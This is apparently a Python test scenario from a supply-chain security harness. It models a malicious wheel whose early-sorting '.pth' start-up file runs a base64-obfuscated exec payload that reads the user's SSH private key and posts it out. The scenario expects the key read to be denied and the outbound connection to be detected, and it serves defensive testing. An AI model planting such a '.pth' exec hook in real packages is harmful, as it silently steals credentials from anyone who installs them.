"""A `.pth` that sorts first, in the user's site directory, which comes before the interpreter's own."""

from payloads import STEAL_KEY, app, encoded, quietly
from scenario import Expected, Scenario
from support.wheels import Wheel

LINE = f"import base64;exec(base64.b64decode('{encoded(quietly(STEAL_KEY))}'), {{}})\n"

SCENARIOS = (
    Scenario(
        row=4,
        story="the first start-up file that site ever looks at reads a private key and posts it",
        models=("user-site race",),
        techniques=("T1546.018", "T1574", "T1552.004", "T1041"),
        user_wheels=(Wheel("acme-early", "2.0.1", {"acme_early/__init__.py": "", "!acme.pth": LINE}),),
        app=app("import acme_early"),
        achieves=("leaked:ssh", "POST:/key"),
        denied=(Expected("fs.read", "acme-early", "startup", "*/.ssh/id_ed25519"),),
        then=(Expected("net.connect", "acme-early", "startup"),),
    ),
)
